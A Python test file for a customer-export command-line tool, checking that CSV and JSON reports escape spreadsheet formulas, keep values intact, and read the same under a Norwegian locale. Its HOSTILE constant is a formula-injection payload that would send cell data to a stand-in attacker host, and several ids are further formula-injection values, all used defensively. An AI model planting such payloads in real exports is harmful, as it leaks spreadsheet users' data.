#!/usr/bin/python3
# test_reports.py: what leaves the program as CSV or JSON is right, safe and the same everywhere
#
# Copyright 2026 The Budstikke developers
#
# SPDX-License-Identifier: GPL-3.0-or-later

import collections
import csv
import io
import os
import subprocess

from harness import Skip, contains, equal, main, need_keyring, test

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
STARTS = '=+-@\t'


def furnish_hostile(place):
    """Everybody with an address at example.com is rejected; some have formulas for ids."""
    need_keyring()
    people = {HOSTILE: 'a@example.com', '+47': 'b@example.com', '-1+1': 'c@example.com',
              '@SUM(A1)': 'd@example.com', 'Åse, "Å"': 'e@example.com',
              'plain': 'f@example.com', 'sound': 'g@fjord.example'}
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(['id', 'name', 'mail'])
    for ident, mail in people.items():
        writer.writerow([ident, ident, mail])
    sandbox = place.sandbox('--refuse-example-com')
    place.budctl('workspace', 'init')
    place.budctl('customers', 'import', place.write('people.csv', text.getvalue()), '--key', 'id')
    place.budctl('segments', 'add', 'All', 'mail is not empty')
    place.connect(sandbox)
    place.budctl('exports', 'add', 'Letter', '-c', 'Account', '-a', 'news', '-e', 'mail', '-m',
                 'FNAME=name', '-s', 'All')
    place.budctl('exports', 'run', 'Letter', code=3)
    return people


@test
def rejected_people_open_in_a_spreadsheet(place):
    people = furnish_hostile(place)
    out = place.budctl('runs', 'rows', '1', '--result', 'rejected', '--csv').out
    equal(out[0], '\ufeff', 'mark')
    header, *rows = csv.reader(io.StringIO(out[1:], newline=''))
    equal(header, ['Customer', 'E-mail', 'Planned', 'Result', 'Reason', 'In Mailchimp’s words'])

    rejected = {ident: mail for ident, mail in people.items() if 'example.com' in mail}
    equal({row[0].removeprefix("'"): row[1] for row in rows}, rejected)
    equal(len(rows), len(rejected))
    for row in rows:
        equal(row[2:4], ['add', 'rejected'])
        for cell in row:
            assert not cell.startswith(tuple(STARTS)), row


@test
def rejected_rows_open_in_a_spreadsheet(place):
    place.budctl('workspace', 'init')
    path = place.write('people.csv', f'id,name\n1,Kari\n{HOSTILE.replace(",", " ")},a,b,c\n')
    place.budctl('customers', 'import', path, '--key', 'id', '--rejects', place.path / 'out.csv')
    [row] = csv.DictReader((place.path / 'out.csv').open(encoding='utf-8-sig', newline=''))
    assert row['Row'].startswith("'="), row
    equal(row['Line'], '3')


@test
def json_has_values_as_they_are(place):
    people = furnish_hostile(place)
    rows = place.json('runs', 'rows', '1').objects
    equal({row['customer_id']: row['email'] for row in rows}, people)
    equal([row['customer_id'] for row in place.json('runs', 'rows', '1', '--result',
                                                     'added').objects], ['sound'])
    place.fails('runs', 'rows', '1', '--result', 'lost', code=2, says=['“lost”'])
    place.fails('runs', 'rows', '1', '--reason', 'lost', code=2, says=['“lost”'])


@test
def a_report_outlives_its_customers(place):
    furnish_hostile(place)
    place.budctl('customers', 'remove-source', 'people.csv')
    rows = place.json('runs', 'rows', '1').objects
    equal(len(rows), 7)
    equal({row['email'] for row in rows}, {None})
    contains(place.budctl('runs', 'rows', '1', '--csv').out, 'plain')


@test
def a_rehearsal_says_what_becomes_of_each_person(place):
    place.furnish_all(300)
    path = place.path / 'rows.csv'
    plan = place.json('exports', 'rehearse', 'Letter', '--rows', path).objects[0]
    with open(path, encoding='utf-8-sig', newline='') as file:
        planned = collections.Counter(row['Planned'] for row in csv.DictReader(file))
    equal(planned, {'add': plan['add'], 'hold back': plan['held_back']})
    equal(path.stat().st_mode & 0o777, 0o600)

    # What the run does is what was planned, person by person.
    place.budctl('exports', 'run', 'Letter', '--plan', plan['plan'])
    done = collections.Counter(row['result'] for row in place.json('runs', 'rows', '1').objects)
    equal(done, {'added': plan['add'], 'held-back': plan['held_back']})

    nowhere = place.path / 'nowhere' / 'rows.csv'
    contains(place.budctl('exports', 'rehearse', 'Letter', '--rows', nowhere, code=1).err,
             'rows.csv', 'cannot be written')


def make_norwegian(place):
    """A locale that nobody has to install, with its decimal comma; gives the environment."""
    if not os.path.exists('/usr/share/i18n/locales/nb_NO'):
        raise Skip('there is nothing to make a Norwegian locale from: install locales')
    subprocess.run(['localedef', '-i', 'nb_NO', '-f', 'UTF-8', place.path / 'nb_NO.UTF-8'],
                   check=True)
    return {'LOCPATH': str(place.path), 'LC_ALL': 'nb_NO.UTF-8', 'LANGUAGE': 'nb'}


@test
def programs_are_told_the_same_in_norwegian(place):
    norwegian = make_norwegian(place)
    place.furnish_all(1500)
    place.budctl('exports', 'run', 'Letter')
    path = place.path / 'customers.csv'
    for words in (('runs', 'show', '1'), ('runs', 'list'), ('runs', 'rows', '1'),
                  ('customers', 'list'), ('customers', 'sources'), ('customers', 'fields'),
                  ('workspace', 'info'), ('exports', 'rehearse', 'Letter'),
                  ('customers', 'count', '--where', '[Sum kjøp] > 1000.5')):
        english = place.json(*words)
        if words[1] == 'rehearse':
            # Each plan has a number of its own.
            english.out = english.out.replace('"plan":"2"', '"plan":"3"')
        equal(place.json(*words, env=norwegian).out, english.out, words)
    # What was imported under another language is the same.
    before = place.json('customers', 'list', '--limit', '0').out
    place.budctl('customers', 'import', path, env=norwegian)
    equal(place.json('customers', 'list', '--limit', '0').out, before)


if __name__ == '__main__':
    main()
